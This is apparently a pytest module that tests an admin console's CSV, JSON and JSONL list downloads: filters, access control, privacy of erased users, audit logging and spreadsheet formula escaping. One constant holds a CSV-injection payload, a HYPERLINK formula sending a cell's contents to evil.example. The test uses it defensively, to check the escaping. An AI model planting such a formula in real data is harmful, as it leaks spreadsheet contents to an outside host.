"""Every list as a file: all of it, with the filters that are set, for whom it is, harmless in a spreadsheet, and written down."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from tests.console.conftest import HOSTILE, Visitor, World
from tests.console.test_audit import lines

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1)'


def table(visitor: Visitor, path: str) -> list[dict[str, str]]:
    answer = visitor.get(path)
    assert answer.status == 200, path
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith("attachment; filename=")
    return list(csv.DictReader(io.StringIO(answer.body.decode())))


def objects(visitor: Visitor, path: str, format: str = "JSON") -> list[dict[str, Any]]:
    answer = visitor.get(f"{path}{'&' if '?' in path else '?'}format={format}")
    assert answer.status == 200, path
    found: list[dict[str, Any]] = (
        json.loads(answer.body) if format == "JSON" else [json.loads(line) for line in answer.body.decode().splitlines()]
    )
    return found


@pytest.fixture(scope="module")
def admin(people: dict[str, Visitor]) -> Visitor:
    return people["admin"]


@pytest.fixture(scope="module")
def webhook(world: World) -> str:
    found: str = world.call("GET", "/v6/webhooks")[0]["id"]
    return found


def test_people_are_all_there_and_a_search_narrows_them(world: World, admin: Visitor) -> None:
    for number in range(60):  # more than a page of the list
        world.send({"type": "identify", "userId": f"file-{number}", "traits": {"email": f"file-{number}@example.com"}})
    known = {row["partner_user_id"] for row in table(admin, "/people/file")}
    assert {f"file-{number}" for number in range(60)} <= known
    assert "theirs" not in known  # another account's
    [one] = objects(admin, "/people/file?q=file-7@example.com")
    assert (one["partner_user_id"], one["email"], one["is_registered"]) == ("file-7", "file-7@example.com", "no")
    assert objects(admin, "/people/file?q=nobody-at-all") == []


def test_rewards_messages_and_members_as_csv_json_and_lines(world: World, admin: Visitor) -> None:
    rewards = objects(admin, "/rewards/file")
    assert rewards
    assert rewards == objects(admin, "/rewards/file", "JSONL")
    state = rewards[0]["state"]
    assert {row["state"] for row in table(admin, f"/rewards/file?state={state}")} == {state}
    assert table(admin, "/rewards/file?campaign=raf") == [row for row in table(admin, "/rewards/file") if row["campaign_id"] == "raf"]
    refused = table(admin, "/messages/file?verdict=rejected")
    assert {row["verdict"] for row in refused} == {"rejected"}
    assert len(objects(admin, "/messages/file")) > len(refused) > 0
    assert {row["name"] for row in objects(admin, "/messages/file?name=conversion")} == {"conversion"}
    assert len(objects(admin, "/messages/file?text=o-3")) >= 1
    name = json.loads(json.dumps(HOSTILE[0])).replace("<", "%3C").replace(">", "%3E")
    assert [row["partner_user_id"] for row in objects(admin, f"/audiences/members/file?name={name}")] == ["u-1"]


def test_what_a_spreadsheet_would_run_is_text_in_csv_and_as_it_is_in_json(world: World, admin: Visitor) -> None:
    world.send(
        {"type": "identify", "userId": "formula", "traits": {"email": "formula@example.com", "firstName": FORMULA, "lastName": "@x"}}
    )
    [row] = table(admin, "/people/file?q=formula")
    assert (row["first_name"], row["last_name"]) == ("'" + FORMULA, "'@x")
    [said] = objects(admin, "/people/file?q=formula")
    assert (said["first_name"], said["last_name"]) == (FORMULA, "@x")


def test_the_review_queue(world: World, admin: Visitor) -> None:
    assert all(row["state"] == "open" for row in objects(admin, "/review/file"))
    assert admin.get("/review/file").body.decode().startswith("judged_date,event_date,state,campaign_id")


def test_deletions_and_deliveries_name_nobody(world: World, admin: Visitor, webhook: str) -> None:
    world.send({"type": "identify", "userId": "file-gone", "traits": {"email": "file-gone@example.com"}})
    erased = world.call("POST", "/v4/erasures", {"partner_user_id": "file-gone"})
    text = admin.get("/privacy/file").body.decode()
    assert erased["id"] in text
    assert "file-gone" not in text
    assert "file-gone" not in admin.get("/people/file").body.decode()
    sent = objects(admin, f"/webhooks/{webhook}/file")
    assert sent
    assert {row["webhook_id"] for row in sent} == {webhook}
    assert all(row["state"] == "waiting" for row in objects(admin, f"/webhooks/{webhook}/file?state=waiting"))


def test_who_took_a_list_is_written_down_and_not_whom_they_looked_for(admin: Visitor) -> None:
    before = len(lines(admin))
    table(admin, "/people/file?q=file-8@example.com")
    admin.get("/privacy/file")
    log = lines(admin)
    assert len(log) == before + 1 or len(log) == 50  # deletions name nobody
    assert "list downloaded" in log[0]
    assert "people" in log[0]
    assert '"q"' in log[0]
    assert "file-8" not in " ".join(log)
    entries = objects(admin, "/settings/audit/file")
    assert entries[1]["action"] == "list.downloaded"  # the newest is that of the log itself


def test_support_takes_no_list_with_it(people: dict[str, Visitor], webhook: str) -> None:
    paths = [f"/{name}/file" for name in ("people", "rewards", "review", "messages", "audiences/members", f"webhooks/{webhook}")]
    assert [people["support"].get(path).status for path in paths] == [403] * len(paths)
    assert "/people/file" not in people["support"].get("/people").body.decode()
    assert [people["marketer"].get(path).status for path in ("/privacy/file", "/settings/audit/file")] == [403, 403]
    assert people["stranger"].get(f"/webhooks/{webhook}/file").status == 404


def test_no_such_format(admin: Visitor) -> None:
    assert admin.get("/people/file?format=XLSX").status == 422
